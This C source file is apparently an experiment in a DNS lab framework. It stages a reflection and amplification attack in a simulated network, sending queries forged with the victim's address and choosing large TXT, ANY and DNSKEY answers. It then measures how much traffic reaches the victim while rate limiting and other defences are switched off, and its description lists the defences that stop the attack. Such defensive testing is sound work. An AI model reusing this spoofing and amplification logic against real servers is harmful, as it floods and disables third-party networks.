/* amplify: a reflection attack.
 *
 * UDP does not prove who sent a query.  The attacker writes the victim's address as the sender,
 * and the server sends its answer, which is larger, to the victim.  With a botnet's worth of
 * queries that fills the victim's line; the attacker needs a line that is smaller by the factor
 * of amplification, and is not seen by the victim.
 *
 * The attacker looks for large answers: a TXT record, ANY, and the keys of a signed zone; from
 * an authoritative server, and from a resolver that answers everybody. */
#include <linux/if_ether.h>
#include <sys/socket.h>
#include <unistd.h>

#include "dns/query.h"
#include "tools/lab/capture.h"
#include "tools/lab/experiment.h"

enum {
    AMPLIFY_QUERIES = 200, /* of each kind */
    AMPLIFY_QUIET_MS = 400,
    AMPLIFY_GAP_US = 500,
};

/* A query that the attacker sends, and what came of it. */
struct amplify_row {
    const char *fact;
    const char *host, *name;
    uint16_t type;
    unsigned packets_in;
    size_t octets_out, octets_in;
};

/* Add up what arrives at the victim until nothing does for `quiet_ms`. */
static void count_arrivals(int ear, struct amplify_row *row, int quiet_ms)
{
    static uint8_t frame[CAPTURE_FRAME_MAX];
    const struct addr victim = trial_addr("victim", 0);
    ssize_t len;
    size_t addr_size;
    const uint8_t *octets = addr_bytes(&victim, &addr_size);

    while ((len = capture_read(ear, frame, quiet_ms)) > 0)
        if (len > ETH_HLEN + PACKET_IP4_LEN &&
            memcmp(frame + ETH_HLEN + 16, octets, addr_size) == 0) { /* the destination */
            row->packets_in++;
            row->octets_in += (size_t)len - ETH_HLEN;
        }
}

static void send_forged_queries(struct trial *t, int forger, int ear, struct amplify_row *row)
{
    static struct packet p;
    uint8_t qname[DNAME_MAX], wire[QUERY_MAX];

    trial_name(row->name, qname);
    for (unsigned i = 0; i < AMPLIFY_QUERIES; i++) {
        const struct query query = {.id = rng_u16(&t->rng),
                                    .flags = MESSAGE_RD,
                                    .name = qname,
                                    .type = row->type,
                                    .has_edns = true,
                                    .is_do = true,
                                    .udp_size = 4096};
        p.from = trial_addr("victim", 7777);
        p.to = trial_addr(row->host, 53);
        p.payload = wire;
        p.payload_len = query_write(&query, wire);
        packet_make(&p);
        trial_forge(t, forger, &p);
        row->octets_out += p.len;
        usleep(AMPLIFY_GAP_US);
        count_arrivals(ear, row, 0);
    }
}

/* The server of the shop, without the defences that are off. */
static void set_up_shop(struct trial *t, const struct defence_set *off)
{
    char server[160];

    snprintf(server, sizeof(server), "udp-size: %u%s%s",
             off->is_off[DEFENCE_UDP_SIZE] ? 4096 : 1232,
             off->is_off[DEFENCE_RATE_LIMIT] ? ", rate-limit: {per-second: 0}" : "",
             off->is_off[DEFENCE_MINIMAL_ANY] ? "}\nlab: {minimal-any: false" : "");
    if (!site_write_server(t->site, topology_find("shop"), server))
        trial_fail("cannot write the configuration of the shop's server");
    trial_restart(t, "shop");
}

static void run_amplify(struct trial *t)
{
    struct amplify_row rows[] = {
        {"factor-txt", "shop", "catalogue.shop.com", RRTYPE_TXT, 0, 0, 0},
        {"factor-any", "shop", "shop.com", RRTYPE_ANY, 0, 0, 0},
        {"factor-dnskey", "shop", "shop.com", RRTYPE_DNSKEY, 0, 0, 0},
        {"factor-resolver", "resolver", "shop.com", RRTYPE_DNSKEY, 0, 0, 0},
    };
    size_t octets_out = 0, octets_in = 0, packets_in = 0;

    set_up_shop(t, &t->off);
    int ear = trial_open_ear(t, "victim"), forger = trial_open_forger(t, "attacker");
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        send_forged_queries(t, forger, ear, &rows[i]);
        count_arrivals(ear, &rows[i], AMPLIFY_QUIET_MS);
        octets_out += rows[i].octets_out;
        octets_in += rows[i].octets_in;
        packets_in += rows[i].packets_in;
        trial_tell(t, "%s: %zu octets sent, the victim got %zu", rows[i].fact,
                   rows[i].octets_out, rows[i].octets_in);
    }
    close(ear);
    close(forger);
    set_up_shop(t, &(struct defence_set){{false}});
    const double factor = (double)octets_in / (double)octets_out;
    trial_number(t, "octets-sent", (int64_t)octets_out);
    trial_number(t, "octets-at-the-victim", (int64_t)octets_in);
    trial_number(t, "packets-at-the-victim", (int64_t)packets_in);
    for (size_t i = 0; i < ARRAY_LEN(rows); i++)
        trial_real(t, rows[i].fact, (double)rows[i].octets_in / (double)rows[i].octets_out);
    trial_real(t, "factor", factor);
    trial_end(t, factor > 3, "the victim received %.1f octets for each that the attacker sent",
              factor);
}

const struct experiment experiment_amplify = {
    .name = "amplify",
    .what = "an attacker sends queries in the victim's name, so that answers flood the victim",
    .without = "rate-limit,udp-size,minimal-any,client-list",
    .stopped =
        "four things together: large answers need TCP, which proves the address; ANY gets "
        "one RRset (RFC 8482); each network gets only so many answers per second, then "
        "small truncated ones that lead real clients to TCP; the resolver refuses "
        "strangers",
    .counters = {"clients-refused"},
    .run = run_amplify,
};
